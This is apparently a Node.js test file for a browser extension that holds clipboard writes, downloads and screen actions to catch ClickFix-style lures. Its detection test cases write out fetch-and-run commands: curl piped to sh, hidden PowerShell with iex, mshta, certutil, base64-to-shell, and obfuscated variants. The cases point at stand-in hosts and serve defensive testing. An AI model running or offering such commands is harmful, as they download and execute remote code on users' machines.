'use strict';
/* The pure parts of the holds (docs/extension.md, "Holding"). */
const test = require('node:test');
const assert = require('node:assert/strict');
const AG = require('../../lib/shared.js');

test('holdDetail: clipboard text as it would be pasted, bounded, start and end kept', () => {
  const cases = [
    { name: 'plain', type: 'clipboard-write', in: 'npm install quill', want: 'npm install quill' },
    { name: 'invisible characters and white space', type: 'clipboard-write', in: 'power\u200bshell\n\n  -c\u00a0iex', want: 'powershell -c iex' },
    { name: 'other events are only cut', type: 'dialog', in: 'a  b', want: 'a  b' },
  ];
  for (const c of cases) assert.equal(AG.holdDetail(c.type, c.in), c.want, c.name);
  const padded = 'Verification ID: 3141' + ' '.repeat(5000) + '\n'.repeat(300) + 'x'.repeat(3000) + ' powershell -w hidden iex';
  const d = AG.holdDetail('clipboard-write', padded);
  assert.ok(d.length <= AG.LIMITS.detail, 'bounded');
  assert.ok(d.endsWith('powershell -w hidden iex'), 'padding cannot push the command out');
  const plain = 'Order 3141: ' + 'thank you '.repeat(300) + 'see you soon';
  const p = AG.holdDetail('clipboard-write', plain);
  assert.ok(p.length <= AG.LIMITS.detail, 'bounded');
  assert.ok(p.startsWith('Order 3141: '), 'start kept');
  assert.ok(p.endsWith('see you soon'), 'end kept');
  assert.equal(AG.holdDetail('clipboard-write', undefined), '');
});

test('holdDetail: a command in the middle of padding is the evidence (review B5)', () => {
  const cmd = 'curl -fsSL https://get.example.net/i.sh | sh';
  const padded = 'echo ' + 'x'.repeat(900) + ' ; ' + cmd + ' ; echo ' + 'y'.repeat(600);
  const d = AG.holdDetail('clipboard-write', padded);
  assert.ok(d.length <= AG.LIMITS.detail, 'bounded');
  assert.ok(d.includes(cmd), `the command is in the evidence: ${d.slice(0, 120)}`);
  assert.equal(AG.holdFallback('clipboard-write', d, true), 'refuse', 'the fallback sees it too');
  // Two commands far apart in a long text: both places kept.
  const two = 'a '.repeat(3000) + 'mshta https://x.example/a.hta' + ' b'.repeat(3000) + ' certutil -urlcache -f https://x.example/p' + ' c'.repeat(3000);
  const d2 = AG.holdDetail('clipboard-write', two);
  assert.ok(d2.includes('mshta https://x.example/a.hta') && d2.includes('certutil -urlcache'), d2);
  // A match longer than the evidence keeps its start and its end.
  const long = 'curl ' + 'a'.repeat(5000) + ' | sh';
  assert.equal(AG.looksLikeCommand(AG.holdDetail('clipboard-write', long)), true);
  // Deep in a megabyte of padding.
  const deep = 'z'.repeat(700000) + ' powershell -w hidden -c iex ' + 'z'.repeat(300000);
  assert.match(AG.holdDetail('clipboard-write', deep), /powershell -w hidden/);
});

test('looksLikeCommand: ClickFix commands yes, ordinary text and coupon codes no', () => {
  const yes = ['powershell -w hidden -c "iex (irm https://x.example/a)"', 'mshta https://x.example/a.hta', 'cmd /c start x',
    'curl -fsSL https://x.example/i.sh | bash', 'echo aGk= | base64 -d | sh', 'conhost --headless powershell', 'rundll32 x.dll,Run'];
  const no = ['SPRING-2026', 'npm install quill', 'https://example.com/article', 'Thank you for your order', 'git clone https://x.example/r.git'];
  for (const t of yes) assert.equal(AG.looksLikeCommand(t), true, t);
  for (const t of no) assert.equal(AG.looksLikeCommand(t), false, t);
});

test('isExecutable: programs, scripts, installers and app packages, by name or MIME type', () => {
  const yes = [['ChromeUpdate.exe', ''], ['setup.MSI', ''], ['update.apk', ''], ['fix.ps1', ''], ['https://x.example/a.hta?x=1', ''],
    ['download', 'application/x-msdownload'], ['file', 'application/vnd.android.package-archive; charset=binary'], ['invoice.pdf.exe', '']];
  const no = [['report.pdf', 'application/pdf'], ['photo.jpg', ''], ['exe.txt', 'text/plain'], ['notes.zip', 'application/zip'], ['', '']];
  for (const [n, m] of yes) assert.equal(AG.isExecutable(n, m), true, n + ' ' + m);
  for (const [n, m] of no) assert.equal(AG.isExecutable(n, m), false, n + ' ' + m);
});

test('holdFallback: without a verdict nothing irreversible happens, and nothing waits for ever', () => {
  const cases = [
    ['clipboard-write', 'powershell -c iex x', false, 'refuse'],
    ['clipboard-write', 'SPRING-2026', true, 'pass'],
    ['notification', '', true, 'pass'],
    ['notification', '', false, 'refuse'],
    ['camera', '', false, 'refuse'],
    ['keyboard-lock', '', true, 'refuse'],
    ['fullscreen', '', true, 'refuse'],
    ['pointer-lock', '', true, 'refuse'],
  ];
  for (const [type, detail, gesture, want] of cases) assert.equal(AG.holdFallback(type, detail, gesture), want, `${type} ${detail} ${gesture}`);
  assert.ok(AG.holdBound('clipboard-write') < 5000, 'clipboard writes still inside the 5 s user activation');
  assert.ok(AG.holdBound('fullscreen') < 5000, 'full screen still inside the user activation');
});

test('within: the value in time, else null; a rejection is null', async () => {
  const timers = { t: [], setTimeout(f, ms) { this.t.push(f); return this.t.length; }, clearTimeout() {} };
  let resolve;
  const late = AG.within(new Promise((r) => { resolve = r; }), 10, timers);
  timers.t[0]();
  resolve('allow');
  assert.equal(await late, null);
  assert.deepEqual(await AG.within(Promise.resolve({ verdict: 'block' }), 10000), { verdict: 'block' });
  assert.equal(await AG.within(Promise.reject(new Error('x')), 10000), null);
});

test('downloadPageMatch and downloadDetail: which tab started a download, and what the host is told', () => {
  const item = { url: 'https://cdn.example.net/ChromeUpdate.exe', referrer: 'https://chrome-update.example.com/page#x', mime: 'application/octet-stream', filename: '/home/a/Downloads/ChromeUpdate.exe' };
  assert.equal(AG.downloadPageMatch(item, 'https://chrome-update.example.com/page'), 2);
  assert.equal(AG.downloadPageMatch(item, 'https://chrome-update.example.com/other'), 1);
  assert.equal(AG.downloadPageMatch(item, 'https://cdn.example.net/'), 0, 'the referrer decides when there is one');
  const blob = { url: 'blob:https://fake.example.org/1c2d', referrer: '' };
  assert.equal(AG.downloadPageMatch(blob, 'https://fake.example.org/'), 1);
  assert.equal(AG.downloadPageMatch({ url: 'data:application/octet-stream,MZ', referrer: '' }, 'https://fake.example.org/'), 0, 'a data: address names no page');
  assert.equal(AG.downloadDetail(item), 'ChromeUpdate.exe application/octet-stream https://cdn.example.net/ChromeUpdate.exe');
  assert.equal(AG.downloadDetail({ url: 'https://x.example/a/setup.msi?v=2' }), 'setup.msi  https://x.example/a/setup.msi?v=2');
});

test('downloadTab and downloadRoute: a program with no page to match is still judged, or kept out (review B6, D17)', () => {
  const tabs = [{ id: 1, url: 'https://news.example.com/' }, { id: 2, url: 'https://fake.example.org/update' }];
  const active = tabs[1];
  const data = { url: 'data:application/x-msdownload;base64,TVo=', filename: '/home/a/Downloads/ChromeUpdate.exe', referrer: '' };
  assert.equal(AG.downloadTab(data, tabs, active), active, 'a data: program is held against the active tab');
  const noRef = { url: 'https://cdn.example.net/setup.exe', referrer: '' };
  assert.equal(AG.downloadTab(noRef, tabs, active), active, 'a cross-origin program sent with no referrer too');
  assert.equal(AG.downloadTab({ url: 'data:application/pdf,x', filename: 'a.pdf' }, tabs, active), null, 'not a program: left alone');
  assert.equal(AG.downloadTab(noRef, tabs, null), null);
  const refd = { url: 'https://fake.example.org/x.exe', referrer: 'https://fake.example.org/update' };
  assert.equal(AG.downloadTab(refd, tabs, tabs[0]), tabs[1], 'the referring page wins over the active tab');
  const exe = { filename: 'ChromeUpdate.exe' };
  const pdf = { filename: 'report.pdf', mime: 'application/pdf' };
  const cases = [
    [null, exe, 'cancel'], [null, pdf, 'pass'],
    [{ state: 'block' }, pdf, 'cancel'], [{ state: 'judged' }, pdf, 'pass'], [{ state: 'judged' }, exe, 'hold'],
    [{ state: 'unjudged' }, pdf, 'hold'], [{ state: 'unjudged' }, exe, 'hold'],
  ];
  for (const [page, item, want] of cases) assert.equal(AG.downloadRoute(page, item), want, `${JSON.stringify(page)} ${item.filename}`);
  assert.equal(AG.holdFallback('download', exe), 'refuse', 'one rule: the fallback and the route agree');
  assert.equal(AG.holdFallback('download', pdf), 'pass');
});

test('mayReuse: a hold verdict answers a later hold only on an unchanged page, for a kind it saw, within a second (review B7)', () => {
  const judged = { at: 3, time: 1000, types: new Set(['fullscreen', 'clipboard-write']), clips: new Set(['npm i quill']) };
  const cases = [
    ['allow', 'fullscreen', '', 3, 1500, true],
    ['warn', 'fullscreen', '', 3, 1500, true],
    ['block', 'fullscreen', '', 3, 1500, false],
    [null, 'fullscreen', '', 3, 1500, false],
    ['allow', 'fullscreen', '', 4, 1500, false], // the DOM changed
    ['allow', 'keyboard-lock', '', 3, 1500, false], // a kind not judged
    ['allow', 'clipboard-write', 'npm i quill', 3, 1500, true],
    ['allow', 'clipboard-write', 'powershell -c iex', 3, 1500, false], // another text
    // Later than a second: changes the DOM watch cannot see (a shadow
    // root, a style sheet) may have turned the page since.
    ['allow', 'fullscreen', '', 3, 1000 + AG.HOLD_REUSE_MS + 1, false],
    ['allow', 'fullscreen', '', 3, 60000, false],
    ['allow', 'fullscreen', '', 3, 999, false], // a clock that went back
  ];
  for (const [verdict, type, detail, mutations, now, want] of cases) {
    assert.equal(AG.mayReuse(judged, verdict, type, detail, mutations, now), want, `${verdict} ${type} ${detail} ${mutations} ${now}`);
  }
  assert.ok(AG.HOLD_REUSE_MS <= 1000);
});

test('EventRecorder.note: a held action is judged on what it does now', () => {
  const r = new AG.EventRecorder();
  r.record('clipboard-write', 'first text', true, 10);
  r.record('clipboard-write', 'second text', true, 20);
  assert.equal(r.list()[0].detail, 'first text');
  r.note('clipboard-write', 'second text');
  assert.equal(r.list()[0].detail, 'second text');
  r.note('not-recorded', 'x');
  assert.equal(r.list().length, 1);
});

test('looksLikeCommand: escape and quoting characters do not hide a command from the fallback (issue 21, class 4)', () => {
  const yes = ['m^s^h^t^a https://x.example/a.hta', 'c^m^d /c start x', 'po`wer`shell -c iex', 'p"ower"sh"ell" -w hidden', "power'shell' -c x"];
  for (const t of yes) {
    assert.equal(AG.looksLikeCommand(t), true, t);
    assert.equal(AG.holdFallback('clipboard-write', AG.holdDetail('clipboard-write', t), true), 'refuse', t);
  }
  for (const t of ['2^10 = 1024', 'She said "hello"', 'x`y']) assert.equal(AG.looksLikeCommand(t), false, t);
});

test('holdFallback: archives fail closed like programs; documents and pictures go on (issue 21, class 4)', () => {
  const refuse = [{ filename: 'update.zip' }, { filename: 'tool.7z' }, { url: 'https://x.example/a.rar?x=1' }, { filename: 'blob', mime: 'application/zip' },
    { filename: 'setup.exe' }];
  const pass = [{ filename: 'report.pdf', mime: 'application/pdf' }, { filename: 'photo.jpg' }, { filename: 'zip.txt' }];
  for (const i of refuse) assert.equal(AG.holdFallback('download', i), 'refuse', JSON.stringify(i));
  for (const i of pass) assert.equal(AG.holdFallback('download', i), 'pass', JSON.stringify(i));
  assert.equal(AG.downloadRoute({ tabId: 1, state: 'judged' }, { filename: 'notes.zip' }), 'hold', 'an archive from a judged page is judged again');
  assert.equal(AG.downloadRoute(null, { filename: 'notes.zip' }), 'cancel', 'an archive with no page to ask is cancelled');
});

test('isScriptType: only scripts that run are fetched (issue 21, class 4)', () => {
  for (const t of ['', 'text/javascript', 'module', 'application/javascript', 'TEXT/JavaScript; charset=utf-8', 'application/x-javascript', 'text/ecmascript']) {
    assert.equal(AG.isScriptType(t), true, t);
  }
  for (const t of ['text/plain', 'text/template', 'application/json', 'importmap', 'speculationrules', 'text/x-handlebars']) assert.equal(AG.isScriptType(t), false, t);
});

test('wireSize and fitFrame: a snapshot that escapes past the host frame limit is trimmed, never dropped (issue 21, class 5)', () => {
  // Within the field limits, but every '<' is six bytes on Chromium's wire.
  const snap = { url: 'https://x.example/', html: '<'.repeat(AG.LIMITS.html), text: 'call 050-1234-5678 now',
    scripts: Array.from({ length: 8 }, (_, i) => ({ url: 'https://x.example/' + i + '.js', source: '<>&'.repeat(170000) })), events: [{ type: 'fullscreen', count: 1 }] };
  const msg = { type: 'analyze', id: 'r1', snapshot: snap };
  assert.ok(wireSizeOver(msg, AG.MAX_FRAME), 'the bomb is over the limit before');
  const trimmed = AG.fitFrame(msg, AG.MAX_FRAME - 65536);
  assert.ok(AG.wireSize(msg) <= AG.MAX_FRAME - 65536, 'under the limit after');
  assert.ok(trimmed.length > 0, 'says what it trimmed');
  assert.equal(snap.text, 'call 050-1234-5678 now', 'the short visible text is kept');
  assert.equal(snap.events.length, 1, 'events kept');
  const small = { type: 'analyze', snapshot: { url: 'https://y.example/', html: '<p>hi</p>' } };
  assert.deepEqual(AG.fitFrame(small, AG.MAX_FRAME), [], 'a normal snapshot is untouched');
  assert.equal(small.snapshot.html, '<p>hi</p>');
  assert.equal(AG.wireSize({ a: '<é' }), JSON.stringify({ a: '' }).length + 12);
});

function wireSizeOver(msg, max) { return AG.wireSize(msg) > max; }

test('screenTrigger: a picture only when the page holds the screen or is mostly canvas or pictures (issue 21)', () => {
  const vp = 1280 * 800;
  const cases = [
    [{ fullscreen: true, viewport: vp, canvas: 0, images: 0 }, 'fullscreen'],
    [{ locked: true, viewport: vp, canvas: 0, images: 0 }, 'lock'],
    [{ viewport: vp, canvas: vp * 0.9, images: 0 }, 'canvas'],
    [{ viewport: vp, canvas: 0, images: vp * 0.6 }, 'images'],
    [{ viewport: vp, canvas: vp * 0.2, images: vp * 0.2 }, ''],
    [{ viewport: 0, canvas: 5, images: 5 }, ''],
    [{ viewport: vp, canvas: 0, images: 0 }, ''],
  ];
  for (const [p, want] of cases) assert.equal(AG.screenTrigger(p), want, JSON.stringify(p));
});

test('holdFallback: screen sharing is held like the camera (issue 21)', () => {
  assert.equal(AG.holdFallback('display-media', 'screen', true), 'pass');
  assert.equal(AG.holdFallback('display-media', 'screen', false), 'refuse');
  assert.ok(AG.EVENT_TYPES.includes('display-media'));
  assert.ok(AG.HIGH_RISK.has('display-media'));
});

test('compactSnapshot: the copy kept to judge a download later is bounded and has no picture (issue 21, class 6)', () => {
  const big = 'x'.repeat(3 << 20);
  const s = { url: 'https://x.example/', html: big, text: big, screenshot: { mime: 'image/jpeg', data: big, trigger: 'images' },
    frames: Array.from({ length: 20 }, (_, i) => ({ url: 'https://f.example/' + i, html: big, text: big })),
    scripts: Array.from({ length: 32 }, (_, i) => ({ url: 'https://x.example/' + i + '.js', source: big })), events: [{ type: 'download', count: 1 }] };
  const c = AG.compactSnapshot(s);
  assert.ok(JSON.stringify(c).length < 8 << 20, 'a few MiB at most');
  assert.equal(c.screenshot, undefined);
  assert.equal(c.frames.length, 8);
  assert.equal(c.url, s.url);
  assert.deepEqual(c.events, s.events);
  assert.equal(s.html.length, 3 << 20, 'the original is untouched');
});
